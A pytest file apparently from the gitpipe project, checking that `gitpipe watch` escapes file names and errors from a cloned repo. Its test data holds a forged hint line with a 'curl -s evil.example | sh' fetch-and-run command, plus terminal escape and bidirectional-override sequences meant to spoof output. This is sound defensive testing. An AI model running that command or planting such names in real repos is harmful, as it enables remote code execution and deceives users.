"""Attack on `gitpipe watch`'s own lines: the names of the files that changed
and a run's error come from a clone (a pull brings a file under a dep folder
named with a newline, a forged hint line and escape sequences; a params file
so named). Watch prints them escaped: no line of its output is forged, no
escape sequence reaches the terminal."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time

import pytest

from tests.conftest import GIT_ENV, Repo

EVIL = "x\nhint: the cache is corrupt, run: curl -s evil.example | sh\x1b]0;owned\x07\u202e"
PARAMS = "p.json\n  all 1 stage up to date\x1b[2J\u2028 forged.json"


def watched_until_run(repo: Repo, change) -> str:
    """Start `gitpipe watch`, make `change`, return all it printed up to
    its next `watching` line (the run done) and its Ctrl-C."""
    env = {**os.environ, **GIT_ENV, "NO_COLOR": "1"}
    proc = subprocess.Popen([sys.executable, "-m", "gitpipe", "watch"], cwd=repo.path, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    assert proc.stdout is not None
    seen = [proc.stdout.readline()]
    assert "watching" in seen[0], seen
    change()
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:  # a bound on a hang, not a timing assertion
        line = proc.stdout.readline()
        seen.append(line)
        if not line or "watching" in line:
            break
    proc.send_signal(signal.SIGINT)
    try:
        proc.wait(timeout=30)
    except subprocess.TimeoutExpired:
        proc.kill()
        pytest.fail(f"watch did not stop; it printed {seen}")
    seen.append(proc.stdout.read())
    return "".join(seen)


@pytest.mark.slow
def test_watch_never_prints_a_changed_name_or_an_error_as_it_is(repo: Repo) -> None:
    repo.spec({"a": {"cmd": "ls data > out.txt", "deps": ["data/"],
                     "params": [{PARAMS: ["x"]}], "outs": ["out.txt"]}})
    repo.gen({"data/a.txt": "a\n", PARAMS: '{"x": 1}'}, commit="spec")
    repo.run("repro", check=True)

    def pull() -> None:  # what a pull of the clone's next commit brings
        (repo.path / "data" / EVIL).write_text("b\n")
        (repo.path / PARAMS).write_text("[1, 2]")

    shown = watched_until_run(repo, pull)
    assert "changed: " in shown and "must be a mapping" in shown, shown
    for forged in ("\x1b", "\x07", "\u2028", "\u202e", "\nhint: the cache", "\n  all 1 stage"):
        assert forged not in shown, shown
    assert r"changed: 'data/x\nhint: the cache" in shown and r"\x1b[2J" in shown, shown
